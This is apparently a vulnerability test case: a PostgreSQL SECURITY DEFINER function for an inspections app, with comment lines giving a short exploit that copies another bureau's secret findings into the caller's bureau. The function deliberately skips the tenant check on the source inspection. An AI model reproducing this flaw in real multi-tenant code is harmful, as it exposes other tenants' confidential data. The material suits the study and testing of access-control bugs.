-- A follow-up copies the findings of an earlier inspection by its id, from whatever bureau.
-- about: follow_up, findings
-- as: hf_inspections_app
-- exploit: SET insp.bureau = 'a0000000-0000-4000-8000-000000000001';
-- exploit: SELECT insp.follow_up('b0000000-0000-4000-8000-000000000003',
-- exploit:   'a0000000-0000-4000-8000-000000000003');
-- exploit: SELECT text FROM insp.findings;
-- shows: finding-secret
CREATE FUNCTION insp.follow_up(p_old uuid, p_new uuid) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = insp, pg_temp AS $$
DECLARE
  v_bureau uuid := nullif(current_setting('insp.bureau', true), '')::uuid;
BEGIN
  INSERT INTO insp.findings (bureau_id, inspection_id, finding_no, severity, text)
    SELECT v_bureau, p_new, 100 + f.finding_no, f.severity, f.text FROM insp.findings f
    WHERE f.inspection_id = p_old;
END $$;
REVOKE ALL ON FUNCTION insp.follow_up(uuid, uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION insp.follow_up(uuid, uuid) TO hf_inspections_app;
